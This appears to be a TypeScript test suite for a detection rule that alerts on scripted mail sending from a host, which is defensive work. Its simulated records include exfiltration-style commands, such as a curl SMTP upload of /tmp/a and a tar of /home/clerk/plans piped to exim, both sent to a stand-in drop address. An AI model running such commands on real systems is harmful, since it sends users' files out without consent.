import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog, valuesOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Whose sends count, which belong together, and who decided them: each story seen in full by audit and the MTA. */
const MX = '203.0.113.25';
const DROP = 'drop@example.net';

async function told(act: (log: HostLog) => void, network = true): Promise<readonly Alert[]> {
  const log = new HostLog({ network });
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.deliver();
  log.wait(MINUTE);
  act(log);
  return (await scanLog(log)).filter(alert => alert.analytic === 'AN0380');
}
const severities = async (act: (log: HostLog) => void): Promise<readonly string[]> =>
  (await told(act)).map(alert => alert.severity);

const menu = (log: HostLog, client: string): Process =>
  log.desktop('clerk').run(['/bin/sh', '-c', 'thunderbird']).run(client);

for (const port of [110, 143, 993, 995])
  test(`a mail client in a home is one when it fetches mail, here on port ${port}`, async () => {
    const home = '/home/clerk/thunderbird/thunderbird';
    assert.deepEqual(
      await severities(log => void menu(log, home).connect('198.51.100.7', port).connect('198.51.100.7', 587)),
      [],
    );
  });

test('what bears the name of a mail client and fetches none is no client; an installed one need not be seen to', async () => {
  const home = '/home/clerk/thunderbird/thunderbird';
  assert.deepEqual(
    await severities(log => void menu(log, home).connect('198.51.100.7', 443).connect('198.51.100.7', 587)),
    ['medium'],
  );
  assert.deepEqual(await severities(log => void menu(log, '/usr/bin/thunderbird').connect('198.51.100.7', 587)), []);
});

interface Mailed {
  readonly words?: string;
  readonly by?: string;
  readonly program?: string;
}
/** cron (or what is like it) starts the sender itself, to mail a job's output to an address elsewhere. */
function mailsOutput(
  log: HostLog,
  { words = '', by = '/usr/sbin/cron', program = '/usr/sbin/sendmail' }: Mailed,
): void {
  const job = log.cron('clerk', 'backup');
  const cron = new Process(log.records, job.ppid, 650, by, { ...job.who, uid: 0 });
  cron.read('/etc/localtime');
  const mail = cron.run(`${program} ${words}`.trim(), { who: job.who });
  if (program.endsWith('mail')) mail.run('/usr/sbin/postdrop -r');
  else mail.connect(MX, 25);
  log.submitted('clerk', DROP, 900_000);
}

test("a scheduler that mails a job's output itself is no scripted sender", async () => {
  for (const words of ['-FCronDaemon clerk', '-oem clerk', '-odi clerk'])
    assert.deepEqual(await severities(log => mailsOutput(log, { words })), [], words);
});

test('what only looks so is one', async () => {
  const words = '-FCronDaemon -oem clerk';
  assert.deepEqual(await severities(log => mailsOutput(log, { words: '-i clerk' })), ['medium'], 'other arguments');
  for (const by of ['/home/clerk/cron', '/usr/lib/systemd/systemd', '/usr/bin/setpriv'])
    assert.deepEqual(await severities(log => mailsOutput(log, { words, by })), ['medium'], by);
  const other = await severities(log => mailsOutput(log, { words, program: '/usr/bin/python3' }));
  assert.deepEqual(other, ['medium'], 'not a sender');
});

test('where no connection is recorded, what a scheduler starts and whose words name a server is no mail of its own', async () => {
  const line = `/usr/bin/curl -F a=b --upload-file /tmp/a --mail-rcpt ${DROP} smtp://${MX}`;
  const alerts = await told(log => {
    const job = log.cron('clerk', 'x');
    const cron = new Process(log.records, job.ppid, 650, '/usr/sbin/cron', { ...job.who, uid: 0 });
    cron.read('/etc/localtime').run(line, { who: job.who });
  }, false);
  assert.deepEqual(
    alerts.map(alert => alert.severity),
    ['medium'],
  );
});

test("a sender of a home that speaks SMTP goes past the relay; an installed one is the relay's", async () => {
  const speaks = async (path: string): Promise<boolean | undefined> => {
    const act = (log: HostLog) =>
      void log.cron('clerk', 'x').run(`${path} --attach /tmp/a --to ${DROP}`, { by: '/usr/bin/perl' }).connect(MX, 25);
    const [alert] = await told(act);
    return alert?.factors.some(factor => factor.name === 'speaks SMTP itself, past the governed relay');
  };
  assert.equal(await speaks('/home/clerk/swaks'), true);
  assert.equal(await speaks('/usr/bin/swaks'), false);
});

/** Nothing is packed, and what goes out is too much for a note: a job of anybody else is told of. */
const handsOn = (log: HostLog, shell: Process): void => {
  shell.run(`/usr/bin/mail -s x ${DROP}`).run('/usr/sbin/sendmail -i');
  log.submitted('clerk', DROP, 900_000);
};

test('what mail software starts is its own work, also over sudo and at the end of a long line', async () => {
  const agent = (log: HostLog): Process => log.pipeTo('clerk', 'x').agent.read('/etc/aliases');
  const sudo = (log: HostLog): Process => agent(log).run(['/bin/sh', '-c', 'x']).run('/usr/bin/sudo -u clerk x');
  assert.deepEqual(await severities(log => handsOn(log, log.cron('clerk', 'x'))), ['medium']);
  assert.deepEqual(await severities(log => handsOn(log, sudo(log))), []);
  const long = (log: HostLog): Process => {
    let shell = agent(log);
    for (let depth = 0; depth < 9; depth++) shell = shell.run(['/bin/sh', '-c', `${depth}`]);
    return shell;
  };
  assert.deepEqual(await severities(log => handsOn(log, long(log))), []);
});

test('a delivery agent of the host vouches for what it starts, one of a home does not', async () => {
  const by = (path: string) => (log: HostLog) => {
    const agent = log.cron('clerk', 'fetchmail').run('/usr/bin/fetchmail').run(path);
    agent.run(`/usr/sbin/sendmail -i ${DROP}`).run('/usr/sbin/postdrop -r');
    log.submitted('clerk', DROP, 900_000);
  };
  assert.deepEqual(await severities(by('/usr/bin/procmail')), []);
  assert.deepEqual(await severities(by('/home/clerk/procmail')), ['medium']);
});

test('exim is the MTA and what people call to send: its own child speaks for the send', async () => {
  const [alert] = await told(log => {
    const [, exim] = log.cron('clerk', 'x').pipeline('/bin/tar cz /home/clerk/plans', '/usr/sbin/exim4 -t');
    exim?.run('/usr/sbin/exim4 -Mc 1').connect(MX, 25);
  });
  assert.deepEqual(valuesOf(alert as Alert, 'address'), [`${MX}:25`]);
});

const attaching = (by: Process, program: string): void =>
  void by.run(`${program} --attach /tmp/a.zip`).read('/tmp/a.zip').connect(MX, 587);

test('sends of one session belong together by the program or script that sends, and other sessions are others', async () => {
  const two = (one: Process, other: Process) => {
    attaching(one, '/home/clerk/a');
    attaching(other, '/home/clerk/a');
    attaching(other, '/home/clerk/b');
  };
  for (const [kind, session] of [
    ['interactive', (log: HostLog) => log.shell('clerk')],
    ['detached', (log: HostLog) => log.shell('clerk').run('/usr/bin/setsid -f x')],
    ['unattended', (log: HostLog) => log.remote('clerk', 'x', '198.51.100.9')],
  ] as const) {
    const alerts = await told(log => two(session(log), session(log)));
    assert.equal(alerts.length, 3, kind);
    for (const alert of alerts) assert.ok(alert.story.includes(` ${kind} job of clerk sent 1 message`), alert.story);
  }
});

test('one script is one job for each that starts it: mail software, a person and cron are three', async () => {
  const script = '/home/clerk/fetch.sh';
  const sends = (by: Process): void => attaching(by.run(script, { by: '/bin/sh' }), '/home/clerk/a');
  const alerts = await told(log => {
    sends(log.pipeTo('clerk', script).agent.read('/etc/aliases'));
    const shell = log.shell('clerk');
    sends(shell);
    sends(shell.run(`/usr/bin/nohup ${script}`));
    sends(log.cron('clerk', script));
  });
  assert.deepEqual(
    alerts.map(alert => / an? (\S+) job /.exec(alert.story)?.[1]).sort(),
    ['cron', 'detached', 'interactive'],
    'what mail software starts is its own work',
  );
});

test('a child that goes to the same place as the send is no second transmission', async () => {
  const [alert] = await told(log => {
    const swaks = log.cron('clerk', 'x').run('/usr/bin/swaks -t x', { by: '/usr/bin/perl' }).connect(MX, 25);
    swaks.run('/usr/bin/openssl s_client').connect(MX, 25).connect('198.51.100.9', 25);
  });
  assert.deepEqual(valuesOf(alert as Alert, 'address'), [`${MX}:25`, '198.51.100.9:25']);
  assert.equal(alert?.steps.filter(step => step.kind === 'network.connected').length, 2);
});

test('of a job that sends without end the first sends are kept and the others counted', async () => {
  const [alert] = await told(log => {
    const script = log.cron('clerk', '/home/clerk/s').run('/home/clerk/s', { by: '/bin/sh' });
    for (let i = 0; i < 65; i++) script.run('/home/clerk/b').connect(MX, 25);
  });
  assert.ok(alert?.missing.includes('1 more sends of this job are not listed.'), alert?.missing.join('\n'));
});

test('what a send beyond those hands its message to is the same send', async () => {
  const [alert] = await told(log => {
    const script = log.cron('clerk', '/home/clerk/s').run('/home/clerk/s', { by: '/bin/sh' });
    for (let i = 0; i < 70; i++) {
      const swaks = script.run('/usr/bin/swaks --attach a.zip -t x@example.net', { by: '/usr/bin/perl' });
      swaks.connect(MX, 25);
      swaks.run('/usr/bin/msmtp -t').connect(MX, 25);
    }
  });
  assert.ok(alert?.missing.includes('6 more sends of this job are not listed.'), alert?.missing.join('\n'));
});
